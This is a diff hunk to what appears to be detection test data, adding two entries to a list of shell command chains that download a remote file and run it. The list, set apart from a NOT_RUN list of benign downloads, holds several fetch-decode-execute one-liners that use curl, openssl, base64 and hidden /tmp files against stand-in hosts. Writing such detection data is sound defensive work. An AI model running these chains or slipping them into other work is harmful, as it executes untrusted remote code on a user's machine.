@@ -408,6 +408,8 @@ CHAINS = [
     "curl -so /tmp/s.enc https://e/s; openssl enc -d -aes-256-cbc -in /tmp/s.enc -out /tmp/s; sh /tmp/s",
     "curl -sk https://203.0.113.2/u -o u.gz && gzip -d u.gz && mv u .u && ./.u",
     "echo f0VMRgIBAQ== | base64 -d > /tmp/.x; chmod +x /tmp/.x; /tmp/.x",
+    "curl -s https://e.example/x | tee /tmp/x > /dev/null; sh /tmp/x",
+    "curl -s https://e.example/x | dd of=/tmp/y status=none && bash /tmp/y",
 ]
 NOT_RUN = [
     "curl -LO https://example.com/tool.tar.gz && tar xzf tool.tar.gz && ls tool",
